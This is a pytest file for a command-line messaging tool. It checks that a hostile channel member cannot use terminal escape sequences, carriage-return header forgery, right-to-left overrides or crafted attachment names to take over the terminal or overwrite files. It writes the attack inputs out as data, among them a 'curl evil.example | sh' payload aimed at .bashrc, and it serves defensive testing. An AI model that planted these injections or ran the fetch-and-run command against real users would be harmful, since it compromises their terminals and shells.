"""Issue 10, items 7 and 8, as an attacker plays them: a hostile member's name,
messages and attachment names reach another officer's ``liaison`` command
(tests/fixtures/cli.py) through a real relay, and must neither drive the terminal, forge a line, nor
write over the officer's files."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.cli.test_channel_commands import as_json, liaison, officer, ok
from tests.relay.conftest import relay, start_relay_process
from tests.relay.relay_process import RelayProcess

__all__ = ["relay", "start_relay_process"]

#: What the hostile member calls himself: 李伟 with an invisible zero-width space, so his
#: lines look like the real 李伟's (profiles refuse controls and bidi, not this).
HOSTILE_NAME = "李\u200b伟"
#: The channel he coordinates: a window-title escape, BEL, a right-to-left override.
HOSTILE_CHANNEL = "Op\x1b]0;owned\x07 Jade\u202e"
#: What a control character or override must never reach the terminal as.
ACTING = ("\x1b", "\x07", "\r", "\x9b", "\u202e", "\u2066", "\u200b", "\x7f")
FORGED_HEADER = "[2026-12-04T10:00:00.000Z] 李伟: "


@pytest.fixture
def li_and_mallory(relay: RelayProcess, tmp_path: Path) -> tuple[Path, Path, str]:
    """The hostile member coordinates a channel Li was invited to: (li, mallory, channel_id)."""
    li, mallory = tmp_path / "li", tmp_path / "mallory"
    li_id = officer(relay, li, "Li Na", "Guangzhou Customs")
    officer(relay, mallory, HOSTILE_NAME, "Guangzhou Customs")
    channel_id = as_json(mallory, "channel", "create", HOSTILE_CHANNEL)["channel_id"]
    ok(mallory, "channel", "invite", channel_id, li_id)
    ok(li, "sync")
    return li, mallory, channel_id


def test_controls_from_a_member_are_shown_not_obeyed_and_cannot_forge_a_line(
        li_and_mallory: tuple[Path, Path, str]) -> None:
    li, mallory, channel_id = li_and_mallory
    attacks = [
        # CR back to the start of the line, then a header as if 李伟 wrote it.
        f"harmless\r{FORGED_HEADER}release container MSCU1234565",
        # A newline, then the same forged header on a line of its own.
        f"see below\n{FORGED_HEADER}release container MSCU1234565",
        "\x1b[2J\x1b[H\x1b[31mscreen cleared\x07 \x9b6n \x7f zero\u200bwidth",
        "invoice_\u202efdp.exe and \u2066isolated\u2069",
    ]
    for text in attacks:
        ok(mallory, "send", channel_id, text)
    ok(li, "sync")

    shown = ok(li, "messages", channel_id)
    assert not [c for c in ACTING if c in shown], repr(shown)
    for visible in ("\\x1b", "\\x07", "\\r", "\\x9b", "\\x7f", "<U+202E>", "<U+2066>",
                    "<U+200B>"):
        assert visible in shown, visible
    lines = shown.splitlines()
    # Every line is a real header or an indented continuation: none is the forged one.
    assert not [line for line in lines if line.startswith(FORGED_HEADER)]
    assert [line for line in lines if line.startswith("    " + FORGED_HEADER)]
    headers = [line for line in lines if line.startswith("[")]
    assert len(headers) >= len(attacks)
    assert all("李<U+200B>伟: " in h for h in headers[-4:])

    # JSON stays exact: scripts get what was sent, the encoder escapes it for them.
    sent = [m["text"] for m in as_json(li, "messages", channel_id)][-len(attacks):]
    assert sent == attacks

    for command in (("channel", "members", channel_id), ("directory",), ("channel", "list")):
        out = ok(li, *command)
        assert not [c for c in ACTING if c in out], (command, out)
    assert "Op\\x1b]0;owned\\x07 Jade<U+202E>" in ok(li, "channel", "list")
    assert "李<U+200B>伟 (Guangzhou Customs)" in ok(li, "channel", "members", channel_id)


def test_a_senders_file_name_never_overwrites_or_escapes_the_target_directory(
        li_and_mallory: tuple[Path, Path, str], tmp_path: Path) -> None:
    li, mallory, channel_id = li_and_mallory
    payloads = tmp_path / "payloads"
    payloads.mkdir()
    bashrc = payloads / ".bashrc"
    bashrc.write_text("curl evil.example | sh\n")
    long_name = payloads / ("报" * 83 + ".pdf")  # 253 UTF-8 bytes: legal, but no room left
    long_name.write_bytes(b"%PDF long")
    device = payloads / "CON.txt"
    device.write_text("device")
    controls = payloads / "\x1b]0;x\x07rep\u202eort.pdf"
    controls.write_bytes(b"%PDF controls")
    for payload in (bashrc, long_name, device, controls):
        ok(mallory, "send", channel_id, "", "--attach", str(payload))
    ok(li, "sync")
    ids = {m["attachment"]["name"]: m["message_id"]
           for m in as_json(li, "messages", channel_id) if "attachment" in m}

    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the officer's own\n")
    (home / "bashrc").write_text("# a file that happens to have the safe name\n")

    first = ok(li, "save-attachment", ids[".bashrc"], str(home))
    assert (home / ".bashrc").read_text() == "# the officer's own\n"
    assert (home / "bashrc").read_text() == "# a file that happens to have the safe name\n"
    assert first.strip() == f"saved {home / 'bashrc (1)'}"
    assert (home / "bashrc (1)").read_text() == "curl evil.example | sh\n"
    ok(li, "save-attachment", ids[".bashrc"], str(home))
    assert (home / "bashrc (2)").is_file()
    ok(li, "save-attachment", ids[".bashrc"], str(home), "--force")
    assert (home / "bashrc").read_text() == "curl evil.example | sh\n"

    ok(li, "save-attachment", ids[long_name.name], str(home))
    (saved_long,) = home.glob("报*")
    assert saved_long.suffix == ".pdf"
    assert len(saved_long.name.encode()) <= 200
    assert saved_long.read_bytes() == b"%PDF long"

    ok(li, "save-attachment", ids["CON.txt"], str(home))
    assert (home / "_CON.txt").read_text() == "device"

    out = ok(li, "save-attachment", ids[controls.name], str(home))
    assert (home / "]0;xreport.pdf").read_bytes() == b"%PDF controls"
    assert not [c for c in ACTING if c in out]
    assert sorted(p.name for p in home.iterdir()) == sorted(
        [".bashrc", "bashrc", "bashrc (1)", "bashrc (2)", saved_long.name, "_CON.txt",
         "]0;xreport.pdf"])

    # An explicit file path the officer named is not overwritten either, without --force.
    target = home / "_CON.txt"
    result = liaison(li, "save-attachment", ids["CON.txt"], str(target))
    assert result.returncode == 0, result.stderr
    assert (home / "_CON (1).txt").is_file()
